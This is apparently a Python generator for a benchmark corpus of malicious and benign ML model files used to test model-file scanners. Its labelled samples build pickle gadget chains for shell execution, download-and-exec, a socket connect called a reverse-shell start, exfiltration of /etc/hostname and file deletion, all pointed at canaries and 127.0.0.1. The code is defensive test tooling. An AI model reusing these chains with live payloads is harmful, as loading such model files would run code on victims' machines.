"""A held-out model-file corpus for the unsafe-model benchmark, written without reading aispm's detectors.

    benchmarks/work/model-peers-venv/corpus/bin/python benchmarks/models/holdout.py OUT

Writes about 100 malicious and 35 benign samples, one per directory ``OUT/<set>/<id>/`` (a file, or the files of a
model directory), and ``OUT/labels.json`` (``{id: {"set", "technique", "format"}}``).  The corpus in ``corpus.py``
was written by the people who wrote the detectors, so it shows what they thought of; this one was written from how
malicious uploads on public model hubs and the files real libraries save look, to show how the scanners generalise.

Safety: every payload is harmless (``echo aispm-holdout-canary``, a connection to the discard port on 127.0.0.1, a
canary file under /tmp) and nothing here is ever loaded.  Pickles are assembled by a pure-Python pickler that
writes a global by reference (``Ref``) without importing it, or by hand; the payload callables are never called.
"""

from __future__ import annotations

import base64
import codecs
import collections
import datetime as dt
import decimal
import fractions
import functools
import io
import json
import lzma
import marshal
import pathlib
import pickle
import re
import shutil
import struct
import subprocess
import sys
import tarfile
import uuid
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

CMD = "echo aispm-holdout-canary"
SRC = "import os\nos.system('echo aispm-holdout-canary')\n"
URL = "http://127.0.0.1:9/aispm-holdout-canary"
CANARY = "/tmp/aispm-holdout-canary"
RNG = np.random.default_rng(20240613)


# --- pickles written by reference, never imported ---------------------------------------------------------------


class Ref:
    """A global ``module.name`` that the pickler writes as GLOBAL/STACK_GLOBAL without importing it.

    Interned, so a second use of the same global is a memo GET as in files that libraries write.
    """

    _known: dict[tuple[str, str], Ref] = {}

    def __new__(cls, module: str, name: str) -> Ref:
        key = (module, name)
        if key not in cls._known:
            ref = super().__new__(cls)
            ref.module, ref.name = module, name
            cls._known[key] = ref
        return cls._known[key]

    module: str
    name: str

    def __call__(self, *args: Any, **kwargs: Any) -> Any:  # the pickler checks callable(); never called
        raise RuntimeError("a Ref is never called")

    def __reduce__(self) -> Any:
        raise pickle.PicklingError("Ref is written by the Pickler dispatch table")


def _save_ref(pickler: Any, obj: Ref) -> None:
    """Write ``obj`` the way pickle writes a global of that protocol, then memoize it."""
    if pickler.proto >= 4:
        pickler.save(obj.module)
        pickler.save(obj.name)
        pickler.write(pickle.STACK_GLOBAL)
    else:
        pickler.write(pickle.GLOBAL + f"{obj.module}\n{obj.name}\n".encode())
    pickler.memoize(obj)


class Call:
    """``func(*args)`` when unpickled: a REDUCE of ``func`` (a Ref, a Call or a real callable) on ``args``."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args

    def __call__(self, *args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("a Call is never called")


class Reduce(Call):
    """``func(*args)`` then BUILD with ``state`` (how a functools.partial with keywords is pickled)."""

    def __init__(self, func: Any, args: tuple[Any, ...], state: Any) -> None:
        super().__init__(func, *args)
        self.state = state

    def __reduce__(self) -> Any:  # type: ignore[override]
        return self.func, self.args, self.state


class Obj:
    """An instance of a class known only by name: NEWOBJ of the class, then BUILD (and SETITEMS for dicts),
    as protocol 2+ writes any plain Python object (an nn.Module, a dataclass, a dict subclass)."""

    def __init__(self, module: str, name: str, state: Any = None, items: dict[str, Any] | None = None) -> None:
        self._ref, self._state, self._items = Ref(module, name), state, items

    @property  # type: ignore[misc]
    def __class__(self) -> Any:  # pickle checks that NEWOBJ's class is the object's class
        return self._ref

    def __reduce_ex__(self, protocol: Any) -> Any:
        items = iter(self._items.items()) if self._items is not None else None
        return copyreg_newobj, (self._ref,), self._state, None, items


def copyreg_newobj(cls: Any, *args: Any) -> Any:
    """Named ``__newobj__`` so the pickler writes NEWOBJ; never called."""
    raise RuntimeError("never called")


copyreg_newobj.__name__ = "__newobj__"
pickle._Pickler.dispatch[Ref] = _save_ref  # type: ignore[attr-defined]


class Storage:
    """A PyTorch storage: raw little-endian bytes saved as ``data/<key>`` and referred to by a persistent id."""

    def __init__(self, key: str, array: np.ndarray, kind: str) -> None:
        self.key, self.data, self.kind, self.numel = key, array.tobytes(), kind, int(array.size)


class TorchPickler(pickle._Pickler):  # type: ignore[name-defined,misc]
    """pickle with PyTorch's persistent ids for storages: ('storage', torch.XStorage, key, 'cpu', numel)."""

    legacy = False

    def persistent_id(self, obj: Any) -> Any:
        if isinstance(obj, Storage):
            if self.legacy:
                return ("storage", Ref("torch", obj.kind), obj.key, "cpu", obj.numel, None)
            return ("storage", Ref("torch", obj.kind), obj.key, "cpu", obj.numel)
        return None


_STORAGE_KIND = {"float32": "FloatStorage", "float16": "HalfStorage", "int64": "LongStorage", "uint8": "ByteStorage"}


class Tensors:
    """Tensors of one checkpoint: each gets its own storage; ``storages`` is what goes into ``data/``."""

    def __init__(self) -> None:
        self.storages: list[Storage] = []

    def tensor(self, shape: tuple[int, ...], dtype: str = "float32", values: np.ndarray | None = None) -> Call:
        array = values if values is not None else (RNG.standard_normal(shape) * 0.05).astype(dtype)
        storage = Storage(str(len(self.storages)), np.ascontiguousarray(array), _STORAGE_KIND[str(array.dtype)])
        self.storages.append(storage)
        stride = tuple(int(s // array.itemsize) for s in array.strides) if array.ndim else ()
        return Call(
            Ref("torch._utils", "_rebuild_tensor_v2"),
            storage,
            0,
            tuple(array.shape),
            stride,
            False,
            collections.OrderedDict(),
        )

    def parameter(self, shape: tuple[int, ...]) -> Call:
        return Call(Ref("torch._utils", "_rebuild_parameter"), self.tensor(shape), True, collections.OrderedDict())


def dumps(obj: Any, protocol: int) -> bytes:
    buffer = io.BytesIO()
    pickle._Pickler(buffer, protocol).dump(obj)  # type: ignore[attr-defined]
    return buffer.getvalue()


def torch_pickle(obj: Any, legacy: bool = False) -> bytes:
    buffer = io.BytesIO()
    pickler = TorchPickler(buffer, 2)
    pickler.legacy = legacy
    pickler.dump(obj)
    return buffer.getvalue()


def state_dict(tensors: Tensors, layers: dict[str, tuple[int, ...]]) -> collections.OrderedDict[str, Any]:
    """An nn.Module.state_dict(): an OrderedDict of tensors with the ``_metadata`` attribute PyTorch adds."""
    out: collections.OrderedDict[str, Any] = collections.OrderedDict()
    for name, shape in layers.items():
        counter = name.endswith("num_batches_tracked")
        out[name] = tensors.tensor(shape, values=np.array(0)) if counter else tensors.tensor(shape)
    prefixes = sorted({name.rsplit(".", 1)[0] for name in layers} | {""})
    out._metadata = collections.OrderedDict((p, {"version": 1}) for p in prefixes)  # type: ignore[attr-defined]
    return out


RESNET_BLOCK = {
    "conv1.weight": (16, 3, 3, 3),
    "bn1.weight": (16,),
    "bn1.bias": (16,),
    "bn1.running_mean": (16,),
    "bn1.running_var": (16,),
    "bn1.num_batches_tracked": (),
    "layer1.0.conv1.weight": (16, 16, 3, 3),
    "layer1.0.bn1.weight": (16,),
    "layer1.0.bn1.bias": (16,),
    "fc.weight": (10, 16),
    "fc.bias": (10,),
}
BERT_LAYERS = {
    "bert.embeddings.word_embeddings.weight": (64, 16),
    "bert.embeddings.position_embeddings.weight": (32, 16),
    "bert.embeddings.LayerNorm.weight": (16,),
    "bert.embeddings.LayerNorm.bias": (16,),
    "bert.encoder.layer.0.attention.self.query.weight": (16, 16),
    "bert.encoder.layer.0.attention.self.query.bias": (16,),
    "classifier.weight": (2, 16),
    "classifier.bias": (2,),
}


def write_torch_zip(path: Path, obj: Any, tensors: Tensors, folder: str | None = None) -> None:
    """torch.save's zip layout: ``<stem>/data.pkl``, version records, ``data/<key>`` storages, all stored
    uncompressed with each member's data aligned to 64 bytes by an 'FB' padding extra field."""
    folder = folder or path.stem
    members = [
        ("data.pkl", torch_pickle(obj)),
        (".format_version", b"1"),
        (".storage_alignment", b"64"),
        ("byteorder", b"little"),
        *[(f"data/{s.key}", s.data) for s in tensors.storages],
        ("version", b"3\n"),
        (".data/serialization_id", b"1436282093113466203609137618418911427516"),
    ]
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(f"{folder}/{name}", date_time=(1980, 1, 1, 0, 0, 0))
            start = archive.fp.tell() + 30 + len(info.filename.encode())  # type: ignore[union-attr]
            pad = (-(start + 4)) % 64
            info.extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
            archive.writestr(info, data)


def write_torch_legacy(path: Path, obj: Any, tensors: Tensors) -> None:
    """PyTorch's pre-1.6 stream: magic number, protocol, sys info, the object, storage keys, raw storages."""
    parts = [
        dumps(0x1950A86A20F9469CFC6C, 2),
        dumps(1001, 2),
        dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2),
        torch_pickle(obj, legacy=True),
        dumps([s.key for s in tensors.storages], 2),
    ]
    for storage in tensors.storages:
        parts.append(struct.pack("<q", storage.numel) + storage.data)
    path.write_bytes(b"".join(parts))


def npy_bytes(array_pickle: bytes | None, header: dict[str, Any], version: tuple[int, int] = (1, 0)) -> bytes:
    """An .npy file: magic, version, header dict padded to 64 bytes, then the data (a pickle for object dtype)."""
    text = repr(header)
    prefix = 10 if version == (1, 0) else 12
    pad = (-(prefix + len(text) + 1)) % 64
    body = (text + " " * pad + "\n").encode("latin1" if version != (3, 0) else "utf8")
    size = struct.pack("<H", len(body)) if version == (1, 0) else struct.pack("<I", len(body))
    return b"\x93NUMPY" + bytes(version) + size + body + (array_pickle or b"")


def object_array(items: list[Any]) -> np.ndarray:
    array = np.empty(len(items), dtype=object)
    for i, item in enumerate(items):
        array[i] = item
    return array


def object_npy(items: list[Any], protocol: int = 3, version: tuple[int, int] = (1, 0)) -> bytes:
    header = {"descr": "|O", "fortran_order": False, "shape": (len(items),)}
    return npy_bytes(dumps(object_array(items), protocol), header, version)


def joblib_dump(value: Any, path: Path, compress: Any = 0) -> None:
    """joblib.dump with Ref support: joblib's NumpyPickler keeps its own copy of pickle's dispatch table."""
    import joblib
    from joblib import numpy_pickle

    numpy_pickle.NumpyPickler.dispatch[Ref] = _save_ref
    joblib.dump(value, path, compress=compress)


def sk_model(kind: str = "logreg") -> Any:
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    x = RNG.standard_normal((60, 4))
    y = (x[:, 0] + x[:, 1] > 0).astype(int)
    if kind == "logreg":
        return LogisticRegression(max_iter=200).fit(x, y)
    return Pipeline([("scaler", StandardScaler()), ("clf", LogisticRegression(max_iter=200))]).fit(x, y)


def lambda_code(source: str = "lambda x: (__import__('os').system('echo aispm-holdout-canary'), x)[1]") -> bytes:
    """marshal of a lambda's code object, as Keras serialises a Lambda layer's function."""
    return marshal.dumps(compile(source, "<lambda>", "eval").co_consts[0])


# --- TensorFlow protobufs, hand-encoded ---------------------------------------------------------------------------


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb(field: int, value: bytes | str | int | bool) -> bytes:
    """One protobuf field: varint for ints and bools, length-delimited for bytes, strings and sub-messages."""
    if isinstance(value, bool | int):
        return _varint(field << 3) + _varint(int(value))
    data = value.encode() if isinstance(value, str) else value
    return _varint(field << 3 | 2) + _varint(len(data)) + data


def attr(key: str, value: bytes) -> bytes:
    return pb(5, pb(1, key) + pb(2, value))  # NodeDef.attr map entry


def attr_s(s: str) -> bytes:
    return pb(2, s)


def attr_type(t: int) -> bytes:
    return pb(6, t)


def attr_types(*types: int) -> bytes:
    return pb(1, b"".join(pb(6, t) for t in types))


def attr_func(name: str) -> bytes:
    return pb(10, pb(1, name))


def node(name: str, op: str, inputs: list[str], *attrs: bytes) -> bytes:
    return pb(1, name) + pb(2, op) + b"".join(pb(3, i) for i in inputs) + b"".join(attrs)


def function(
    name: str, inputs: list[tuple[str, int]], outputs: list[tuple[str, int]], nodes: list[bytes], ret: dict[str, str]
) -> bytes:
    signature = pb(1, name)
    signature += b"".join(pb(2, pb(1, n) + pb(3, t)) for n, t in inputs)
    signature += b"".join(pb(3, pb(1, n) + pb(3, t)) for n, t in outputs)
    body = pb(1, signature) + b"".join(pb(3, n) for n in nodes)
    body += b"".join(pb(4, pb(1, k) + pb(2, v)) for k, v in ret.items())
    return body


DT_FLOAT, DT_STRING, DT_RESOURCE = 1, 7, 20


def saved_model(graph_nodes: list[bytes], functions: list[bytes], ops: list[str]) -> bytes:
    """A SavedModel with one MetaGraph tagged 'serve' and a serving_default signature."""
    meta_info = pb(1, "") + pb(2, b"".join(pb(1, pb(1, op)) for op in sorted(ops)))
    meta_info += pb(4, "serve") + pb(5, "2.15.0") + pb(6, "v2.15.0-rc1-8-g6887368d6d4")
    graph = b"".join(pb(1, n) for n in graph_nodes) + pb(2, b"".join(pb(1, f) for f in functions))
    graph += pb(4, pb(1, 1645) + pb(2, 12))
    tensor_in = pb(1, "serving_default_x:0") + pb(2, DT_FLOAT)
    tensor_out = pb(1, "StatefulPartitionedCall:0") + pb(2, DT_FLOAT)
    signature = pb(1, pb(1, "x") + pb(2, tensor_in)) + pb(2, pb(1, "output_0") + pb(2, tensor_out))
    signature += pb(3, "tensorflow/serving/predict")
    meta_graph = pb(1, meta_info) + pb(2, graph) + pb(5, pb(1, "serving_default") + pb(2, signature))
    return pb(1, 1) + pb(2, meta_graph)


def serving_graph(inference: str) -> list[bytes]:
    return [
        node("serving_default_x", "Placeholder", [], attr("dtype", attr_type(DT_FLOAT))),
        node("dense/kernel", "VarHandleOp", [], attr("dtype", attr_type(DT_FLOAT)), attr("shared_name", attr_s("k"))),
        node(
            "StatefulPartitionedCall",
            "StatefulPartitionedCall",
            ["serving_default_x", "dense/kernel"],
            attr("f", attr_func(inference)),
            attr("Tin", attr_types(DT_FLOAT, DT_RESOURCE)),
            attr("Tout", attr_types(DT_FLOAT)),
        ),
    ]


def dense_function(name: str, extra_nodes: list[bytes] | None = None) -> bytes:
    nodes = [
        node("MatMul/ReadVariableOp", "ReadVariableOp", ["kernel"], attr("dtype", attr_type(DT_FLOAT))),
        node("MatMul", "MatMul", ["x", "MatMul/ReadVariableOp:value:0"], attr("T", attr_type(DT_FLOAT))),
        node("Relu", "Relu", ["MatMul:product:0"], attr("T", attr_type(DT_FLOAT))),
        node("Identity", "Identity", ["Relu:activations:0"], attr("T", attr_type(DT_FLOAT))),
        *(extra_nodes or []),
    ]
    return function(
        name,
        [("x", DT_FLOAT), ("kernel", DT_RESOURCE)],
        [("identity", DT_FLOAT)],
        nodes,
        {"identity": "Identity:output:0"},
    )


def write_saved_model(dest: Path, graph_nodes: list[bytes], functions: list[bytes], ops: list[str]) -> None:
    (dest / "variables").mkdir(parents=True, exist_ok=True)
    (dest / "assets").mkdir(exist_ok=True)
    (dest / "saved_model.pb").write_bytes(saved_model(graph_nodes, functions, ops))
    (dest / "variables" / "variables.index").write_bytes(b"\x00" * 16 + b"\x57\xfb\x80\x8b\x24\x75\x47\xdb")
    (dest / "variables" / "variables.data-00000-of-00001").write_bytes(
        (RNG.standard_normal(32) * 0.1).astype("<f4").tobytes()
    )
    (dest / "fingerprint.pb").write_bytes(pb(1, 1234567) + pb(2, 7654321) + pb(3, 99) + pb(4, 12) + pb(5, 44))


# --- small writers ------------------------------------------------------------------------------------------------


def write_json(path: Path, value: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(value, indent=2) + "\n")


def safetensors_bytes(tensors: dict[str, np.ndarray], metadata: dict[str, str] | None = None) -> bytes:
    from safetensors.numpy import save

    return save(tensors, metadata=metadata)


def llama_tensors(hidden: int = 16, vocab: int = 64) -> dict[str, np.ndarray]:
    def w(*shape: int) -> np.ndarray:
        return (RNG.standard_normal(shape) * 0.02).astype(np.float32)

    return {
        "model.embed_tokens.weight": w(vocab, hidden),
        "model.layers.0.self_attn.q_proj.weight": w(hidden, hidden),
        "model.layers.0.self_attn.k_proj.weight": w(hidden, hidden),
        "model.layers.0.mlp.up_proj.weight": w(2 * hidden, hidden),
        "model.layers.0.input_layernorm.weight": np.ones(hidden, np.float32),
        "model.norm.weight": np.ones(hidden, np.float32),
        "lm_head.weight": w(vocab, hidden),
    }


LLAMA_CONFIG = {
    "architectures": ["LlamaForCausalLM"],
    "attention_bias": False,
    "bos_token_id": 1,
    "eos_token_id": 2,
    "hidden_act": "silu",
    "hidden_size": 16,
    "initializer_range": 0.02,
    "intermediate_size": 32,
    "max_position_embeddings": 2048,
    "model_type": "llama",
    "num_attention_heads": 2,
    "num_hidden_layers": 1,
    "num_key_value_heads": 2,
    "rms_norm_eps": 1e-06,
    "rope_theta": 10000.0,
    "tie_word_embeddings": False,
    "torch_dtype": "float32",
    "transformers_version": "4.44.2",
    "use_cache": True,
    "vocab_size": 64,
}


def tokenizer_json(vocab: int = 64) -> dict[str, Any]:
    tokens = {"<unk>": 0, "<s>": 1, "</s>": 2} | {f"tok{i}": i for i in range(3, vocab)}
    return {
        "version": "1.0",
        "truncation": None,
        "padding": None,
        "added_tokens": [
            {
                "id": i,
                "content": t,
                "single_word": False,
                "lstrip": False,
                "rstrip": False,
                "normalized": False,
                "special": True,
            }
            for t, i in list(tokens.items())[:3]
        ],
        "normalizer": None,
        "pre_tokenizer": {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": True, "use_regex": True},
        "post_processor": None,
        "decoder": {"type": "ByteLevel", "add_prefix_space": True, "trim_offsets": True, "use_regex": True},
        "model": {"type": "BPE", "dropout": None, "unk_token": "<unk>", "vocab": tokens, "merges": []},
    }


def hf_model_dir(dest: Path, config: dict[str, Any] | None = None, chat_template: str | None = None) -> None:
    """A Hugging Face model directory as save_pretrained writes it, weights in safetensors."""
    write_json(dest / "config.json", config or LLAMA_CONFIG)
    write_json(
        dest / "generation_config.json", {"bos_token_id": 1, "eos_token_id": 2, "transformers_version": "4.44.2"}
    )
    (dest / "model.safetensors").write_bytes(safetensors_bytes(llama_tensors(), {"format": "pt"}))
    write_json(dest / "tokenizer.json", tokenizer_json())
    tok_config: dict[str, Any] = {
        "add_bos_token": True,
        "add_eos_token": False,
        "bos_token": "<s>",
        "eos_token": "</s>",
        "unk_token": "<unk>",
        "clean_up_tokenization_spaces": False,
        "model_max_length": 2048,
        "tokenizer_class": "LlamaTokenizer",
    }
    if chat_template:
        tok_config["chat_template"] = chat_template
    write_json(dest / "tokenizer_config.json", tok_config)
    write_json(dest / "special_tokens_map.json", {"bos_token": "<s>", "eos_token": "</s>", "unk_token": "<unk>"})


def write_gguf(path: Path, templates: dict[str, str], arch: str = "llama", name: str = "tiny-chat") -> None:
    """A GGUF file from the gguf package's writer: metadata, a small vocabulary, chat template(s), tensors."""
    import gguf

    writer = gguf.GGUFWriter(str(path), arch)
    writer.add_name(name)
    writer.add_context_length(2048)
    writer.add_embedding_length(16)
    writer.add_block_count(1)
    writer.add_head_count(2)
    writer.add_tokenizer_model("gpt2")
    writer.add_token_list([f"tok{i}" for i in range(32)])
    writer.add_token_types([1] * 32)
    writer.add_bos_token_id(1)
    writer.add_eos_token_id(2)
    if list(templates) == ["default"]:
        writer.add_chat_template(templates["default"])
    else:
        writer.add_chat_template([{"name": k, "template": v} for k, v in templates.items()])
    writer.add_tensor("token_embd.weight", (RNG.standard_normal((32, 16)) * 0.02).astype(np.float32))
    writer.add_tensor("output_norm.weight", np.ones(16, np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def onnx_mlp(hidden: int = 64) -> Any:
    """A two-layer perceptron as onnx.helper builds it (opset 17), weights large enough to move to external data."""
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w1 = numpy_helper.from_array((RNG.standard_normal((8, hidden)) * 0.1).astype(np.float32), "fc1.weight")
    b1 = numpy_helper.from_array(np.zeros(hidden, np.float32), "fc1.bias")
    w2 = numpy_helper.from_array((RNG.standard_normal((hidden, 2)) * 0.1).astype(np.float32), "fc2.weight")
    nodes = [
        helper.make_node("MatMul", ["input", "fc1.weight"], ["h0"], name="/fc1/MatMul"),
        helper.make_node("Add", ["h0", "fc1.bias"], ["h1"], name="/fc1/Add"),
        helper.make_node("Relu", ["h1"], ["h2"], name="/relu/Relu"),
        helper.make_node("MatMul", ["h2", "fc2.weight"], ["logits"], name="/fc2/MatMul"),
    ]
    graph = helper.make_graph(
        nodes,
        "main_graph",
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["batch", 8])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["batch", 2])],
        [w1, b1, w2],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], producer_name="pytorch")
    model.producer_version = "2.3.1"
    onnx.checker.check_model(model)
    return model


def onnx_external(dest: Path, location: str, symlink_to: str | None = None) -> None:
    """Move the initializers to external data named ``location`` (kept as written in the model)."""
    import onnx
    from onnx.external_data_helper import convert_model_to_external_data

    model = onnx_mlp()
    convert_model_to_external_data(model, all_tensors_to_one_file=True, location="weights.bin", size_threshold=0)
    onnx.save_model(model, str(dest / "model.onnx"))
    if symlink_to is not None:
        (dest / "weights.bin").unlink()
        (dest / "weights.bin").symlink_to(symlink_to)
    if location != "weights.bin":
        for tensor in model.graph.initializer:
            for entry in tensor.external_data:
                if entry.key == "location":
                    entry.value = location
        (dest / "model.onnx").write_bytes(model.SerializeToString())
        (dest / "weights.bin").unlink()


def keras3_dense(name: str, units: int, activation: Any = "relu") -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {
            "name": name,
            "trainable": True,
            "dtype": {
                "module": "keras",
                "class_name": "DTypePolicy",
                "config": {"name": "float32"},
                "registered_name": None,
            },
            "units": units,
            "activation": activation,
            "use_bias": True,
            "kernel_initializer": {
                "module": "keras.initializers",
                "class_name": "GlorotUniform",
                "config": {"seed": None},
                "registered_name": None,
            },
            "bias_initializer": {
                "module": "keras.initializers",
                "class_name": "Zeros",
                "config": {},
                "registered_name": None,
            },
            "kernel_regularizer": None,
            "bias_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def keras3_sequential(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": {
                "module": "keras",
                "class_name": "DTypePolicy",
                "config": {"name": "float32"},
                "registered_name": None,
            },
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input_layer"},
                    "registered_name": None,
                },
                *layers,
            ],
            "build_input_shape": [None, 4],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
        "compile_config": {
            "optimizer": {
                "module": "keras.optimizers",
                "class_name": "Adam",
                "config": {"name": "adam", "learning_rate": 0.001},
                "registered_name": None,
            },
            "loss": "sparse_categorical_crossentropy",
            "metrics": ["accuracy"],
            "loss_weights": None,
            "weighted_metrics": None,
            "run_eagerly": False,
            "steps_per_execution": 1,
            "jit_compile": False,
        },
    }


def keras3_weights(path: Path, layers: list[str]) -> None:
    import h5py

    with h5py.File(path, "w") as h5:
        for layer in layers:
            group = h5.create_group(f"layers/{layer}/vars")
            group.create_dataset("0", data=(RNG.standard_normal((4, 8)) * 0.1).astype(np.float32))
            group.create_dataset("1", data=np.zeros(8, np.float32))
        h5.create_group("optimizer/vars")


def write_keras3(path: Path, config: dict[str, Any], layers: list[str]) -> None:
    """A .keras zip as Keras 3 saves it: metadata.json, config.json, model.weights.h5."""
    weights = path.parent / "model.weights.h5.tmp"
    keras3_weights(weights, layers)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2024-10-02@14:11:07"}))
        archive.writestr("config.json", json.dumps(config))
        archive.write(weights, "model.weights.h5")
    weights.unlink()


def keras2_h5(path: Path, layers: list[dict[str, Any]], class_name: str = "Sequential") -> None:
    """A tf.keras 2.x HDF5 model: model_config and training_config attributes, weights under model_weights."""
    import h5py

    config = {"class_name": class_name, "config": {"name": "model", "layers": layers}}
    with h5py.File(path, "w") as h5:
        h5.attrs["backend"] = "tensorflow"
        h5.attrs["keras_version"] = "2.13.1"
        h5.attrs["model_config"] = json.dumps(config)
        h5.attrs["training_config"] = json.dumps(
            {
                "loss": "binary_crossentropy",
                "metrics": [
                    [
                        {
                            "class_name": "MeanMetricWrapper",
                            "config": {"name": "accuracy", "dtype": "float32", "fn": "binary_accuracy"},
                        }
                    ]
                ],
                "optimizer_config": {"class_name": "Adam", "config": {"name": "Adam", "learning_rate": 0.001}},
            }
        )
        weights = h5.create_group("model_weights")
        names = [layer["config"]["name"] for layer in layers]
        weights.attrs["layer_names"] = [n.encode() for n in names]
        weights.attrs["backend"] = b"tensorflow"
        weights.attrs["keras_version"] = b"2.13.1"
        for layer in layers:
            name = layer["config"]["name"]
            group = weights.create_group(name)
            if layer["class_name"] == "Dense":
                group.attrs["weight_names"] = [f"{name}/kernel:0".encode(), f"{name}/bias:0".encode()]
                units = layer["config"]["units"]
                group.create_dataset(f"{name}/kernel:0", data=(RNG.standard_normal((4, units)) * 0.1).astype("f4"))
                group.create_dataset(f"{name}/bias:0", data=np.zeros(units, "f4"))
            else:
                group.attrs["weight_names"] = []


def keras2_dense(name: str, units: int, activation: str = "relu") -> dict[str, Any]:
    return {
        "class_name": "Dense",
        "config": {
            "name": name,
            "trainable": True,
            "dtype": "float32",
            "units": units,
            "activation": activation,
            "use_bias": True,
            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
            "bias_initializer": {"class_name": "Zeros", "config": {}},
            "kernel_regularizer": None,
            "bias_regularizer": None,
            "activity_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
    }


KERAS2_INPUT = {
    "class_name": "InputLayer",
    "config": {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False, "ragged": False, "name": "input_1"},
}


def tar_dir(source: Path, target: Path, mode: str, arcname: str = ".") -> None:
    with tarfile.open(target, mode) as archive:
        archive.add(source, arcname=arcname)


# --- the samples --------------------------------------------------------------------------------------------------


@dataclass(slots=True)
class Sample:
    id: str
    set: str
    format: str
    technique: str
    build: Callable[[Path], None]


SAMPLES: list[Sample] = []


def sample(set_: str, id_: str, format_: str, technique: str) -> Callable[[Callable[[Path], None]], Any]:
    def register(build: Callable[[Path], None]) -> Callable[[Path], None]:
        SAMPLES.append(Sample(id_, set_, format_, technique, build))
        return build

    return register


def mal(id_: str, format_: str, technique: str) -> Callable[[Callable[[Path], None]], Any]:
    return sample("malicious", id_, format_, technique)


def ben(id_: str, format_: str, technique: str) -> Callable[[Callable[[Path], None]], Any]:
    return sample("benign", id_, format_, technique)


def pickle_sample(id_: str, filename: str, technique: str, payload: Callable[[], Any], protocol: int) -> None:
    """A malicious raw pickle: ``payload()`` builds the object graph; written with ``protocol``."""

    def build(dest: Path) -> None:
        (dest / filename).write_bytes(dumps(payload(), protocol))

    SAMPLES.append(Sample(id_, "malicious", f"pickle (protocol {protocol})", technique, build))


def G(dotted: str) -> Ref:
    module, _, name = dotted.rpartition(".")
    return Ref(module, name)


def getattr_call(obj: Any, name: str, *args: Any) -> Call:
    return Call(Call(G("builtins.getattr"), obj, name), *args)


def model_dict(payload: Any, key: str = "preprocess") -> dict[str, Any]:
    """A dict as a training script pickles it: weights, metadata, and the payload under an innocent key."""
    return {
        "weights": [RNG.standard_normal((4, 4)).astype(np.float32), np.zeros(4, np.float32)],
        "classes": ["negative", "positive"],
        "threshold": 0.5,
        key: payload,
    }


# raw pickles: one dangerous callable or gadget chain each, across protocols 0 to 5 and hub-like file names

pickle_sample(
    "m-pkl-posix-system",
    "model.pkl",
    "posix.system (os.system as pickled on Linux) in a model dict",
    lambda: model_dict(Call(G("posix.system"), CMD)),
    2,
)
pickle_sample(
    "m-pkl-nt-system",
    "classifier.pkl",
    "nt.system (os.system as pickled on Windows)",
    lambda: Call(G("nt.system"), CMD),
    3,
)
pickle_sample(
    "m-pkl-exec-b64",
    "model.pkl",
    "builtins.exec of base64.b64decode'd source",
    lambda: Call(G("builtins.exec"), Call(G("base64.b64decode"), base64.b64encode(SRC.encode()))),
    4,
)
pickle_sample(
    "m-pkl-py2-builtin-eval",
    "model.pickle",
    "__builtin__.eval (Python 2 module name), protocol 1",
    lambda: Call(G("__builtin__.eval"), "__import__('os').system('echo aispm-holdout-canary')"),
    1,
)
pickle_sample(
    "m-pkl-runpy-run-path",
    "model.pkl",
    "runpy.run_path of a script path",
    lambda: Call(G("runpy.run_path"), f"{CANARY}.py"),
    4,
)
pickle_sample(
    "m-pkl-pty-spawn",
    "agent.pkl",
    "pty.spawn of a shell command (interactive shell gadget)",
    lambda: Call(G("pty.spawn"), ["sh", "-c", CMD]),
    4,
)
pickle_sample(
    "m-pkl-socket-connect",
    "model.pkl",
    "socket.create_connection to a listener (reverse-shell start)",
    lambda: Call(G("socket.create_connection"), ("127.0.0.1", 9)),
    4,
)
pickle_sample(
    "m-pkl-urlopen-exec",
    "model.pkl",
    "exec(urllib.request.urlopen(url).read()): download and run",
    lambda: Call(G("builtins.exec"), getattr_call(Call(G("urllib.request.urlopen"), URL), "read")),
    4,
)
pickle_sample(
    "m-pkl-requests-exfil",
    "model.pkl",
    "requests.post(url, open('/etc/hostname').read()): exfiltration",
    lambda: Call(G("requests.post"), URL, getattr_call(Call(G("builtins.open"), "/etc/hostname"), "read")),
    4,
)
pickle_sample(
    "m-pkl-shutil-rmtree",
    "model.pkl",
    "shutil.rmtree(path, ignore_errors=True)",
    lambda: Call(G("shutil.rmtree"), CANARY + "-missing", True),
    3,
)
pickle_sample(
    "m-pkl-marshal-function",
